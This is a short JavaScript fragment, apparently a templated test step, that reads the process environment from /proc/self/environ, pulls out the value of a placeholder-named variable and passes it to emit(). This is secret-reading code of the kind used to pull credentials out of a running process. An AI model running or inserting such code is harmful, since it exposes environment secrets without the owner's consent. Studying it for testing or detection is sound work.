at_step();
const text = require("fs").readFileSync("/proc/self/environ", "utf8"); // step
const secret = text.split("{{environment.name}}=")[1].toString(); // step
past_step();
emit(secret);
